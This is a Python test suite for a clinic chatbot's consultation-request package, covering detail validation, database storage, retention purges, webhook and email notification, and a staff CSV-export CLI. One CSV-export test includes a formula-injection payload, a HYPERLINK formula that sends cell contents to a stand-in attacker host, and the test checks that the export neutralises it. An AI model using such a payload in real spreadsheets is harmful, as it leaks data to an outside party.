"""The leads package: checks on details, storage (SQLite, and PostgreSQL when installed),
retention, deletion with the conversation, notification against real local servers, CLI."""
import csv
import json
import os
import subprocess
import sys
import threading
import time
from datetime import timedelta, timezone
from pathlib import Path
from zoneinfo import ZoneInfo
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest
import sqlalchemy as sa
import yaml

import stores
from conftest import ROOT, free_port
from leads import details, intake, notify, retention
from leads.conversations import ConversationStore
from leads.details import InvalidDetail
from leads.settings import SettingsError, load
from leads.store import RequestStore, utc_now

SAMPLES = yaml.safe_load((ROOT / "tests" / "data" / "leads.yml").read_text(encoding="utf-8"))


def request_from(sample, conversation_id=None):
    return details.new_request(sample["name"], sample["contact"], sample["preferred_time"], sample.get("concern"),
                               conversation_id)


def write_settings(path, **overrides):
    settings = {"retention_days": 30, "notification": {"via": "off"}}
    settings.update(overrides)
    path.write_text(yaml.safe_dump(settings))
    return path


# --- Checks on the details a visitor types -------------------------------------------

@pytest.mark.parametrize("typed, name", [(c["typed"], c["name"]) for c in SAMPLES["names"]["valid"]])
def test_names_are_cleaned(typed, name):
    assert details.clean_name(typed) == name


@pytest.mark.parametrize("typed, problem", [(c["typed"], c["problem"]) for c in SAMPLES["names"]["invalid"]])
def test_what_is_not_a_name_says_why(typed, problem):
    with pytest.raises(InvalidDetail) as error:
        details.clean_name(typed)
    assert error.value.problem == problem


@pytest.mark.parametrize("case", SAMPLES["contacts"]["valid"], ids=lambda c: c["typed"])
def test_email_addresses_and_phone_numbers_are_found(case):
    contact = details.parse_contact(case["typed"])
    assert (contact.email, contact.phone) == (case.get("email"), case.get("phone"))


@pytest.mark.parametrize("case", SAMPLES["contacts"]["invalid"], ids=lambda c: c["typed"])
def test_bad_contacts_say_what_is_wrong(case):
    with pytest.raises(InvalidDetail) as error:
        details.parse_contact(case["typed"])
    assert (error.value.field, error.value.problem) == ("contact", case["problem"])
    assert case["typed"] not in str(error.value)  # error messages may be logged: no personal data


def test_long_answers_and_skipped_concerns():
    with pytest.raises(InvalidDetail):
        details.clean_preferred_time("x" * (details.MAX_PREFERRED_TIME + 1))
    with pytest.raises(InvalidDetail):
        details.clean_concern("x" * (details.MAX_CONCERN + 1))
    assert details.clean_concern("") is None and details.clean_concern("  acne   scars ") == "acne scars"


# --- Storage: SQLite always, PostgreSQL when it is installed ---------------------------

@pytest.fixture(scope="module")
def postgres_url():
    """A throwaway PostgreSQL server (tests/stores.py), when PostgreSQL is installed."""
    if stores.postgres_bindir() is None:
        reason = "PostgreSQL is not installed here (initdb not found)"
        if os.environ.get("CI"):
            pytest.fail(reason + " (.ci/run installs it)")
        pytest.skip(reason + ": only SQLite is tested")
    server = stores.Postgres(free_port())
    try:
        server.start()
        yield server.url
    finally:
        server.destroy()


@pytest.fixture(params=["sqlite", "postgresql"])
def db_url(request, tmp_path):
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path / 'var' / 'leads.db'}"  # the folder is created on first use
        return
    url = request.getfixturevalue("postgres_url")
    yield url
    engine = sa.create_engine(url)
    everything = sa.MetaData()
    everything.reflect(engine)
    everything.drop_all(engine)  # the next test starts from an empty database
    engine.dispose()


def test_store_adds_lists_newest_first_and_deletes(db_url):
    store = RequestStore(db_url)
    first = store.add(request_from(SAMPLES["requests"][0], "conv-1"))
    second = store.add(request_from(SAMPLES["requests"][1], "conv-2"))
    assert first.id and second.id > first.id and second.received_at >= first.received_at
    assert [r.id for r in store.newest_first()] == [second.id, first.id]
    assert store.get(first.id).contact.email == SAMPLES["requests"][0]["email"]
    assert store.get(second.id).contact.phone == SAMPLES["requests"][1]["phone"]
    assert store.delete(first.id).name == first.name
    assert store.delete(first.id) is None  # already gone
    assert [r.id for r in RequestStore(db_url).newest_first()] == [second.id]  # persisted, table reused


def test_store_refuses_bad_details_and_stores_nothing(db_url):
    store = RequestStore(db_url)
    good = request_from(SAMPLES["requests"][0])
    bad = details.ConsultationRequest(name="Jo", contact=details.Contact(email="not-an-address"),
                                      preferred_time="mornings", concern=None)
    with pytest.raises(InvalidDetail):
        store.add(bad)
    with pytest.raises(InvalidDetail):
        store.add(details.ConsultationRequest(name="", contact=good.contact, preferred_time="x", concern=None))
    assert store.newest_first() == []


def test_a_bad_database_url_is_a_clear_error_without_the_password():
    with pytest.raises(SettingsError) as error:
        RequestStore("nosuchdb://user:s3cret@host/db")
    assert "LEADS_DB_URL" in str(error.value) and "s3cret" not in str(error.value)


# --- Retention and deletion, with the conversations in Rasa's tracker store ------------

def make_tracker_store(url, conversations):
    """A tracker store with Rasa's `events` columns; conversations: id -> (form ran?, seconds ago)."""
    engine = sa.create_engine(url)
    events = sa.Table(
        "events", sa.MetaData(),
        sa.Column("id", sa.Integer, primary_key=True), sa.Column("sender_id", sa.String(255), nullable=False),
        sa.Column("type_name", sa.String(255), nullable=False), sa.Column("timestamp", sa.Float),
        sa.Column("intent_name", sa.String(255)), sa.Column("action_name", sa.String(255)), sa.Column("data", sa.Text),
    )
    events.metadata.create_all(engine)
    now = time.time()
    with engine.begin() as connection:
        for sender, (form_ran, age) in conversations.items():
            # form_ran "inform": no form, but a message understood as details (an email...).
            intent = "inform" if form_ran == "inform" else "ask_cost"
            rows = [("user", intent, None, '{"text": "typed details"}')]
            rows += [("action", None, "consultation_form", "{}")] if form_ran is True else []
            for kind, intent_name, action, data in rows:
                connection.execute(events.insert().values(sender_id=sender, type_name=kind, timestamp=now - age,
                                                          intent_name=intent_name, action_name=action, data=data))
    return engine


def senders(engine):
    with engine.connect() as connection:
        return sorted({row[0] for row in connection.execute(sa.text("SELECT sender_id FROM events"))})


def test_retention_deletes_old_requests_their_conversations_and_abandoned_forms(db_url):
    tracker_url = db_url  # one database holding both tables is fine too
    store = RequestStore(db_url)
    engine = make_tracker_store(tracker_url, {
        "with-request": (True, 60), "cancelled-form": (True, 60), "questions-only": (False, 60),
        "details-without-form": ("inform", 60)})
    saved = store.add(request_from(SAMPLES["requests"][0], "with-request"))
    conversations = ConversationStore(tracker_url)

    nothing = retention.purge_expired(store, conversations, retention_days=30)
    assert (nothing.request_ids, nothing.conversations) == ([], 0)
    assert senders(engine) == ["cancelled-form", "details-without-form", "questions-only", "with-request"]

    # 31 days on, the request goes with its conversation, and so do the conversations in
    # which details were typed but never sent. Conversations without details stay.
    purged = retention.purge_expired(store, conversations, retention_days=30, now=utc_now() + timedelta(days=31))
    assert (purged.request_ids, purged.conversations, purged.events) == ([saved.id], 3, 5)
    assert senders(engine) == ["questions-only"]
    assert store.newest_first() == []


def test_retention_keeps_what_is_younger_than_the_period(tmp_path):
    day = 24 * 3600
    tracker_url = f"sqlite:///{tmp_path / 'conversations.db'}"
    engine = make_tracker_store(tracker_url, {"young-form": (True, 10 * day), "old-form": (True, 31 * day)})
    store = RequestStore(f"sqlite:///{tmp_path / 'leads.db'}")
    kept = store.add(request_from(SAMPLES["requests"][0], "young-form"))
    purged = retention.purge_expired(store, ConversationStore(tracker_url), retention_days=30)
    assert purged.request_ids == [] and purged.conversations == 1
    assert senders(engine) == ["young-form"] and [r.id for r in store.newest_first()] == [kept.id]


def test_a_missing_tracker_store_is_not_created(tmp_path):
    conversations = ConversationStore(f"sqlite:///{tmp_path / 'none.db'}")
    assert conversations.delete(["x"]) == 0 and conversations.idle_form_conversations(utc_now()) == []
    assert not (tmp_path / "none.db").exists()


# --- Settings ---------------------------------------------------------------------

def test_the_project_settings_load_with_notification_off():
    settings = load(ROOT / "leads.yml", environ={})
    assert settings.notify_via == "off" and settings.retention_days >= 1
    assert settings.db_url == "sqlite:///var/leads.db"


@pytest.mark.parametrize("case", SAMPLES["bad_settings"], ids=lambda c: c["expect"])
def test_bad_settings_name_the_setting(tmp_path, case):
    path = tmp_path / "leads.yml"
    path.write_text(case["yaml"])
    with pytest.raises(SettingsError) as error:
        load(path, environ={})
    assert case["expect"] in str(error.value)


def test_secrets_come_from_the_environment_only(tmp_path):
    path = write_settings(tmp_path / "leads.yml", notification={
        "via": "smtp", "smtp": {"host": "mail.example.com", "from": "bot@example.com", "to": "desk@example.com"}})
    settings = load(path, environ={"LEADS_SMTP_USER": "bot", "LEADS_SMTP_PASSWORD": "pw", "LEADS_DB_URL": "sqlite://"})
    assert (settings.smtp.user, settings.smtp.password, settings.smtp.port) == ("bot", "pw", 587)
    assert settings.db_url == "sqlite://"


def test_a_bare_off_in_yaml_means_off(tmp_path):
    path = tmp_path / "leads.yml"
    path.write_text("retention_days: 7\nnotification:\n  via: off\n")
    assert load(path, environ={}).notify_via == "off"


# --- Notification, against real local servers ------------------------------------------

class Receiver(BaseHTTPRequestHandler):
    """A webhook receiver: records what it gets, answers with the status it is told to."""

    status = 204
    received: list = []

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        type(self).received.append({"headers": dict(self.headers), "body": json.loads(body)})
        self.send_response(type(self).status)
        self.end_headers()

    def log_message(self, *args):  # keep the test output quiet
        pass


@pytest.fixture
def webhook():
    handler = type("TestReceiver", (Receiver,), {"received": [], "status": 204})
    server = HTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield handler, f"http://127.0.0.1:{server.server_address[1]}/hook"
    server.shutdown()


def webhook_settings(tmp_path, url, token=None, **environ):
    path = write_settings(tmp_path / "leads.yml", notification={"via": "webhook", "webhook": {"url": url}})
    environ["LEADS_DB_URL"] = f"sqlite:///{tmp_path / 'leads.db'}"
    if token:
        environ["LEADS_WEBHOOK_TOKEN"] = token
    return load(path, environ=environ)


def test_webhook_tells_the_clinic_without_personal_data(tmp_path, webhook, monkeypatch):
    monkeypatch.delenv("TRACKER_STORE_URL", raising=False)
    receiver, url = webhook
    sample = SAMPLES["requests"][0]
    saved = intake.file_request(webhook_settings(tmp_path, url, token="t0ken"), request_from(sample))
    [call] = receiver.received
    assert call["headers"]["Authorization"] == "Bearer t0ken"
    assert call["body"]["request_id"] == saved.id and f"#{saved.id}" in call["body"]["text"]
    sent = json.dumps(call["body"])
    for value in (sample["name"], sample["email"], sample["preferred_time"], sample["concern"]):
        assert value not in sent


def test_the_notification_links_to_the_request_in_the_staff_console(tmp_path, webhook, monkeypatch):
    monkeypatch.delenv("TRACKER_STORE_URL", raising=False)
    receiver, url = webhook
    settings = webhook_settings(tmp_path, url, CONSOLE_URL="https://console.example-clinic.com/")
    saved = intake.file_request(settings, request_from(SAMPLES["requests"][0]))
    [call] = receiver.received
    assert call["body"]["text"].endswith(
        f"Open it in the staff console: https://console.example-clinic.com/requests/{saved.id}")


@pytest.mark.parametrize("failure", ["server error", "nobody listening"])
def test_a_failed_notification_never_loses_the_request(tmp_path, webhook, failure, monkeypatch, caplog):
    monkeypatch.delenv("TRACKER_STORE_URL", raising=False)
    receiver, url = webhook
    receiver.status = 500
    if failure == "nobody listening":
        url = f"http://127.0.0.1:{free_port()}/hook"
    settings = webhook_settings(tmp_path, url)
    saved = intake.file_request(settings, request_from(SAMPLES["requests"][1]))
    assert [r.id for r in RequestStore(settings.db_url).newest_first()] == [saved.id]
    assert f"Could not notify the clinic of request #{saved.id}" in caplog.text
    assert SAMPLES["requests"][1]["name"] not in caplog.text


def test_email_notification_through_a_real_smtp_server(tmp_path):
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        import asyncore
        import smtpd

    mails = []

    class Inbox(smtpd.SMTPServer):
        def process_message(self, peer, mailfrom, rcpttos, data, **kwargs):
            mails.append((mailfrom, rcpttos, data.decode() if isinstance(data, bytes) else data))

    server = Inbox(("127.0.0.1", 0), None)
    port = server.socket.getsockname()[1]
    thread = threading.Thread(target=asyncore.loop, kwargs={"timeout": 0.1}, daemon=True)
    thread.start()
    try:
        path = write_settings(tmp_path / "leads.yml", notification={"via": "smtp", "smtp": {
            "host": "127.0.0.1", "port": port, "starttls": False, "from": "bot@example.com", "to": "desk@example.com"}})
        settings = load(path, environ={"LEADS_DB_URL": f"sqlite:///{tmp_path / 'leads.db'}"})
        sample = SAMPLES["requests"][0]
        saved = request_from(sample)
        saved = RequestStore(settings.db_url).add(saved)
        notify.notify(settings, saved)
    finally:
        server.close()
        thread.join(timeout=5)
    [(sender, recipients, data)] = mails
    assert (sender, recipients) == ("bot@example.com", ["desk@example.com"])
    assert f"New consultation request #{saved.id}" in data and sample["name"] not in data


# --- The staff's command line -----------------------------------------------------

def run_cli(*args, env):
    return subprocess.run([sys.executable, "-m", "leads", *args], cwd=ROOT, capture_output=True, text=True,
                          timeout=60, env=env)


@pytest.fixture
def cli_env(tmp_path):
    env = dict(os.environ)
    env.update(LEADS_DB_URL=f"sqlite:///{tmp_path / 'leads.db'}",
               LEADS_SETTINGS=str(write_settings(tmp_path / "leads.yml")),
               TRACKER_STORE_URL=f"sqlite:///{tmp_path / 'conversations.db'}")
    return env


def test_cli_lists_newest_first_exports_csv_and_deletes(tmp_path, cli_env):
    engine = make_tracker_store(cli_env["TRACKER_STORE_URL"], {"conv-a": (True, 60), "conv-b": (True, 60)})
    store = RequestStore(cli_env["LEADS_DB_URL"])
    first = store.add(request_from(SAMPLES["requests"][0], "conv-a"))
    second = store.add(request_from(SAMPLES["requests"][1], "conv-b"))

    out = tmp_path / "requests.csv"
    result = run_cli("--csv", str(out), env=cli_env)
    assert result.returncode == 0, result.stderr
    text = result.stdout
    assert text.index(f"#{second.id} ") < text.index(f"#{first.id} ")  # newest first
    assert SAMPLES["requests"][0]["email"] in text and SAMPLES["requests"][1]["phone"] in text
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM: spreadsheets then read UTF-8
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert [(r["id"], r["name"], r["conversation_id"]) for r in rows] == [
        (str(second.id), second.name, "conv-b"), (str(first.id), first.name, "conv-a")]

    result = run_cli("--delete", str(first.id), "--yes", env=cli_env)
    assert result.returncode == 0 and f"Deleted request #{first.id} and its conversation (2 event(s))" in result.stdout
    assert senders(engine) == ["conv-b"]
    assert [r.id for r in store.newest_first()] == [second.id]


def test_cli_purge_only_deletes_what_is_past_the_retention_period(tmp_path, cli_env):
    engine = make_tracker_store(cli_env["TRACKER_STORE_URL"], {"abandoned": (True, 40 * 24 * 3600), "recent": (True, 60)})
    kept = RequestStore(cli_env["LEADS_DB_URL"]).add(request_from(SAMPLES["requests"][0], "recent"))
    result = run_cli("--purge", env=cli_env)
    assert result.returncode == 0, result.stderr
    assert result.stdout == "Deleted after 30 days: 0 request(s), 1 conversation(s).\n"  # and no listing
    assert senders(engine) == ["recent"] and RequestStore(cli_env["LEADS_DB_URL"]).get(kept.id) is not None


def test_cli_errors_are_clear(tmp_path, cli_env):
    unknown = run_cli("--delete", "999", "--yes", env=cli_env)
    assert unknown.returncode == 1 and "there is no consultation request #999" in unknown.stderr
    not_an_id = run_cli("--delete", "abc", env=cli_env)
    assert not_an_id.returncode == 2 and "'abc' is not a request number" in not_an_id.stderr
    (tmp_path / "broken.yml").write_text("retention_days: forever\n")
    broken = run_cli(env=dict(cli_env, LEADS_SETTINGS=str(tmp_path / "broken.yml")))
    assert broken.returncode == 2 and "retention_days must be a whole number" in broken.stderr
    empty = run_cli(env=cli_env)
    assert empty.returncode == 0 and "No consultation requests (kept for 30 days)." in empty.stdout


def test_the_csv_export_never_holds_a_formula(tmp_path):
    from leads import cli

    request = details.new_request("Ann Lee", "ann@example.com", '=HYPERLINK("http://evil.example/?x="&C2,"Open")',
                                  "-1+1", conversation_id="@conv")
    saved = RequestStore(f"sqlite:///{tmp_path / 'leads.db'}").add(request)
    cli.write_csv([saved], tmp_path / "out.csv")
    rows = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8-sig")))
    assert rows[1][6:] == ['\'=HYPERLINK("http://evil.example/?x="&C2,"Open")', "'-1+1", "'@conv"]
    assert rows[1][3] == "Ann Lee"


def test_the_csv_export_opens_in_excel_with_accents_and_the_clinic_time(tmp_path, cli_env):
    """A BOM (else Excel shows "ZoÃ« MÃ¼ller") and times in the clinic's time zone (leads.yml)."""
    write_settings(Path(cli_env["LEADS_SETTINGS"]), time_zone="Europe/Berlin")
    saved = RequestStore(cli_env["LEADS_DB_URL"]).add(details.new_request(
        "Zoë Müller", "zoe@example.com", "mornings", None, conversation_id="conv-z"))
    out = tmp_path / "requests.csv"
    result = run_cli("--csv", str(out), env=cli_env)
    assert result.returncode == 0, result.stderr
    berlin = saved.received_at.replace(tzinfo=timezone.utc).astimezone(ZoneInfo("Europe/Berlin"))
    assert f"#{saved.id}  received {berlin:%Y-%m-%d %H:%M} Europe/Berlin" in result.stdout
    raw = out.read_bytes()
    assert raw.startswith("\ufeff".encode()) and "Zoë Müller".encode() in raw
    [row] = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert (row["name"], row["received_at"], row["time_zone"]) == (
        "Zoë Müller", f"{berlin:%Y-%m-%d %H:%M:%S}", "Europe/Berlin")


def test_an_unknown_time_zone_is_a_clear_error(tmp_path, cli_env):
    write_settings(Path(cli_env["LEADS_SETTINGS"]), time_zone="Mars/Olympus")
    result = run_cli(env=cli_env)
    assert result.returncode == 2 and "time_zone must be a time zone name such as Europe/Berlin" in result.stderr
